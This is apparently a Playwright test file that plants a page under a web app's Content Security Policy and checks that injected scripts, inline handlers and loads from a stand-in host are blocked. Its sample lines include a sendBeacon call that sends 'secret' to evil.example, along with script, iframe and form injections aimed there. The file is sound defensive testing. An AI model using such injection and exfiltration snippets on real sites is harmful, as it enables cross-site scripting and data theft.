import type { Page } from 'playwright/test';
import { expect, test } from './helpers/fixtures';

const POLICY = 'content-security-policy';
const EVIL = 'https://evil.example';

/** A page with the headers of the app, but other content and a script of this site. */
async function openPlanted(page: Page, html: string, script = '') {
  const own = (await page.request.get('/m/home')).headers();
  const headers = { 'content-type': 'text/html', [POLICY]: own[POLICY] ?? '' };
  const body = `<!doctype html><title>Planted</title><body>${html}<script src="/planted.js"></script>`;
  await page.route('**/planted.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: script }),
  );
  await page.route('**/planted', (route) => route.fulfill({ headers, body }));
  await page.goto('/planted');
}

/** Code that turns a text into code or HTML. The policy makes it throw. */
const rejected = [
  `eval('1')`,
  `new Function('return 1')()`,
  `document.body.innerHTML = '<b>text</b>'`,
  `document.write('<b>text</b>')`,
  `document.body.setAttribute('onclick', 'hurt()')`,
  `document.createElement('iframe').srcdoc = '<b>text</b>'`,
  `Object.assign(document.createElement('script'), { src: '/planted.js' })`,
  `Object.assign(document.createElement('script'), { text: 'hurt()' })`,
  `new Worker('/planted.js')`,
  `setTimeout('hurt()')`,
  `trustedTypes.createPolicy('other', { createHTML: (text) => text })`,
];

/** Code that loads or sends something. The browser does not do it. */
const blocked = [
  `fetch('${EVIL}').catch(() => {})`,
  `navigator.sendBeacon('${EVIL}', 'secret')`,
  `new Image().src = '${EVIL}/x.png'`,
  `new FontFace('x', 'url(${EVIL}/x.woff2)').load().catch(() => {})`,
  `document.querySelector('p').click()`,
  `document.querySelector('form').submit()`,
  `document.querySelector('#code').click()`,
];

const planted = `
  <p style="color: red" onclick="hurt()">text</p>
  <style>p { color: red }</style>
  <script>hurt()</script>
  <script src="${EVIL}/x.js"></script>
  <link rel="stylesheet" href="${EVIL}/x.css">
  <iframe src="${EVIL}"></iframe>
  <object data="${EVIL}/x"></object>
  <video src="${EVIL}/x.mp4"></video>
  <base href="${EVIL}">
  <link rel="manifest" href="${EVIL}/x">
  <form action="${EVIL}" method="post"></form>
  <a id="code" href="javascript:hurt()">text</a>
`;

const expected = [
  'script-src-attr inline',
  'script-src-elem inline',
  `script-src-elem ${EVIL}/x.js`,
  'style-src-attr inline',
  'style-src-elem inline',
  `style-src-elem ${EVIL}/x.css`,
  `base-uri ${EVIL}`,
  `media-src ${EVIL}/x.mp4`,
  `frame-src ${EVIL}`,
  `object-src ${EVIL}`,
  `connect-src ${EVIL}`,
  `img-src ${EVIL}/x.png`,
  `font-src ${EVIL}/x.woff2`,
  `form-action ${EVIL}`,
  'require-trusted-types-for trusted-types-sink',
  'trusted-types trusted-types-policy',
];

test.describe('a page with planted violations', () => {
  test.use({ allowConsole: [/./] });

  test('is stopped at each of them', async ({ page }) => {
    const violated: string[] = [];
    page.on('console', (message) => {
      const [, directive, blocked = ''] =
        /^policy violation: (\S+) (\S*)/.exec(message.text()) ?? [];
      if (directive) violated.push(`${directive} ${blocked.replace(/\/$/, '')}`.trim());
    });
    const outcomes: unknown[] = [];
    await page.exposeFunction('report', (outcome: unknown) => outcomes.push(outcome));
    const script = [...rejected, ...blocked]
      .map((code) => `try { ${code}; report('allowed') } catch ({ name }) { report(name) }`)
      .join('\n');
    // After the load: it would not end while the form is being sent.
    await openPlanted(page, planted, `addEventListener('load', () => {\n${script}\n})`);
    await expect.poll(() => outcomes.length).toBe(rejected.length + blocked.length);
    for (const [i, code] of rejected.entries())
      expect(outcomes[i], code).toMatch(/^(EvalError|TypeError)$/);
    await expect.poll(() => new Set(violated)).toEqual(new Set(expected));
  });
});

test.describe('a test fails, when', () => {
  test.fail();

  test('the page violates the policy', async ({ page }) => {
    const logged = page.waitForEvent('console');
    await openPlanted(page, '<p style="color: red">text</p>');
    await logged;
  });
});
